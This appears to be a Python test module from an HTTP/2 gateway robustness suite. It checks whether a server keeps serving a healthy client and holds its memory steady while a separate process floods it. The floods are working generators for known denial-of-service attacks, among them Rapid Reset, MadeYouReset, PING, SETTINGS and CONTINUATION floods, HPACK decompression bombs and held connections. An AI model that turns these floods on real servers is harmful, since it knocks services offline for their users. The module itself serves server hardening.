"""The role `floods`: each flood of the gateway's table of limits for ten seconds, with a healthy connection beside it.

An attacker in a process of its own connects again whenever its connection is closed. The healthy client sends
requests at a fixed rate on one connection; it must reach nine tenths of what it reaches without the flood, and the
memory of the server must not grow by more than MEMORY. The rate is fixed, and not the most that is possible, because
the attacker needs a part of the machine, too.
"""

import itertools
import multiprocessing
import pathlib
import re
import time

from connection import Connection, json_text, request
from frames import *
from results import Result

RATE = 100  # requests per second of the healthy client
SHARE = 0.9
MEMORY = 80 << 10  # KiB; `buffered_bytes` is 64 MiB
RECONNECTS = 20  # per second
BURST = 100  # frames between reads
CONNECTIONS = 100  # of floods that need many
GET = block(request())
SLOW = block(request("/slow"))
UPLOAD = block(request("/upload", "POST", ("content-type", "application/json")))
KEPT = frozenset({"kept"})


# What an attacker sends on one connection: frames without an end


def rapid_reset(connection):
    while True:
        stream = connection.new_stream()
        yield headers(stream, SLOW) + reset(stream)


def made_you_reset(connection):
    while True:
        stream = connection.new_stream()
        yield headers(stream, UPLOAD, False) + window_update(stream, 0)


def malformed(connection):
    while True:
        yield headers(connection.new_stream(), GET + literal("X-Capital", "1"))


def repeated(*pieces, opens=b""):
    def frames(connection):
        connection.new_stream()
        yield opens
        yield from itertools.repeat(b"".join(pieces))

    return frames


def refused(connection):
    while True:
        yield headers(connection.new_stream(), UPLOAD, False)


def bomb(connection):
    while True:
        yield headers(connection.new_stream(), GET + literal("x-bomb", "a" * 4000, 0x40) + indexed(62) * 5000)


def blocked(connection):
    """Large responses, whose windows stay closed."""
    yield settings((INITIAL_WINDOW_SIZE, 0))
    for _ in range(90):
        yield headers(connection.new_stream(), block(request("/large")))
    while True:
        yield ping()
        time.sleep(0.01)


FLOODS = {
    "resets of requests (CVE-2023-44487)": rapid_reset,
    "streams that the server has to reset (CVE-2025-8671)": made_you_reset,
    "malformed requests": malformed,
    "PING (CVE-2019-9512)": repeated(ping()),
    "SETTINGS (CVE-2019-9515)": repeated(settings()),
    "PRIORITY": repeated(priority(1001)),
    "empty DATA (CVE-2019-9518)": repeated(data(1, b"", False), opens=headers(1, UPLOAD, False)),
    "increments of 1": repeated(window_update(1, 1), opens=headers(1, UPLOAD, False)),
    "CONTINUATION without an end (CVE-2024-27316)": repeated(
        continuation(1, literal("x-probe", "a" * 100), False), opens=headers(1, GET, end_headers=False)
    ),
    "blocks that are small until they are decoded": bomb,
    "streams above the limit": refused,
    "closed windows (CVE-2019-9511)": blocked,
}
DEAF = {"PINGs of a client that does not read": repeated(ping())}
# Connections that stay as they are
HELD = {
    "idle connections": b"",
    "field blocks without an end": headers(1, GET, end_headers=False),
    "bodies without an end": headers(1, UPLOAD, False) + data(1, json_text(1000), False),
}


def attack(target, sent, frames, seconds, reads=True):
    """Sends frames in bursts, and connects again when the connection is closed or takes nothing for a second."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        begin = time.monotonic()
        try:
            connection = Connection(target, acknowledge=reads, credit=False)
            connection.send(PREFACE, settings())
            pour(connection, sent, frames(connection), end, reads)
            connection.close()
        except OSError:
            pass
        time.sleep(max(0, begin + 1 / RECONNECTS - time.monotonic()))


def pour(connection, sent, frames, end, reads):
    while time.monotonic() < end and not connection.failed:
        connection.socket.settimeout(1)
        connection.socket.sendall(b"".join(itertools.islice(frames, BURST)))
        sent.value += BURST
        if reads:
            connection.wait(lambda: False, 0.001)
            connection.frames.clear()
            connection.pongs.clear()


def hold(target, sent, opens, seconds):
    """Many connections that send one thing and nothing else; closed ones are opened again."""
    end = time.monotonic() + seconds
    held = []
    while time.monotonic() < end:
        held = [connection for connection in held if not connection.ended]
        for _ in range(min(CONNECTIONS - len(held), RECONNECTS)):
            try:
                connection = Connection(target)
                connection.send(PREFACE, settings(), opens)
                held.append(connection)
                sent.value += 1
            except OSError:
                pass
        for connection in held:
            connection.wait(lambda: False, 0.001)
        time.sleep(0.1)


def healthy_rate(target, seconds):
    """Requests per second that are answered with 200, of RATE that are due."""
    connection = Connection(target).start()
    begin, answered = time.monotonic(), 0
    for number in range(int(RATE * seconds)):
        delay = begin + number / RATE - time.monotonic()
        if delay > 0:
            connection.wait(lambda: False, delay)
        if time.monotonic() > begin + seconds:
            break
        if connection.failed or connection.goaway:
            connection = Connection(target).start()
        stream = connection.request()
        record = connection.record(stream)
        connection.wait(lambda: record.done, 2)
        answered += record.ended and record.status == 200
        connection.streams.clear()
        connection.frames.clear()
    connection.close()
    return answered / seconds


def memory(pid):
    """In KiB."""
    return int(re.search(r"VmRSS:\s+(\d+)", pathlib.Path(f"/proc/{pid}/status").read_text())[1]) if pid else 0


def usual_rate(target):
    """The rate without a flood; a server may need a moment to recover from the one before."""
    for _ in range(5):
        rate = healthy_rate(target, 2)
        if rate >= SHARE * RATE:
            break
    return rate


def run_flood(number, title, attacker, arguments, target, pid, seconds):
    plain = type(target)(target.host, target.port, target.tls)  # without the recorder, which stays in this process
    usual = usual_rate(plain)
    before = memory(pid)
    fork = multiprocessing.get_context("fork")
    sent = fork.Value("q", 0, lock=False)
    process = fork.Process(target=attacker, args=(plain, sent, *arguments), daemon=True)
    process.start()
    most, rates = before, []
    for _ in range(seconds):
        rates.append(healthy_rate(plain, 1))
        most = max(most, memory(pid))
        if most - before > 8 * MEMORY:
            break  # it has failed; the machine needs its memory
    process.terminate()
    process.join()
    rate, growth = sum(rates) / len(rates), most - before
    kept = usual >= SHARE * RATE and rate >= SHARE * usual and growth <= MEMORY
    found = f"{rate:.0f} of {usual:.0f} requests per second, memory {growth / 1024:+.1f} MiB"
    print(f"  {title}: {found}, {sent.value} frames or connections", flush=True)
    outcome = "kept" if kept else found
    return Result(f"floods/{number}", title, outcome, KEPT)


def run(target, only=None, pid=None, seconds=10):
    rows = [(title, attack, (frames, seconds)) for title, frames in FLOODS.items()]
    rows += [(title, attack, (frames, seconds, False)) for title, frames in DEAF.items()]
    rows += [(title, hold, (opens, seconds)) for title, opens in HELD.items()]
    return [
        run_flood(number, title, attacker, arguments, target, pid, seconds)
        for number, (title, attacker, arguments) in enumerate(rows, 1)
        if only is None or only(f"floods/{number}")
    ]
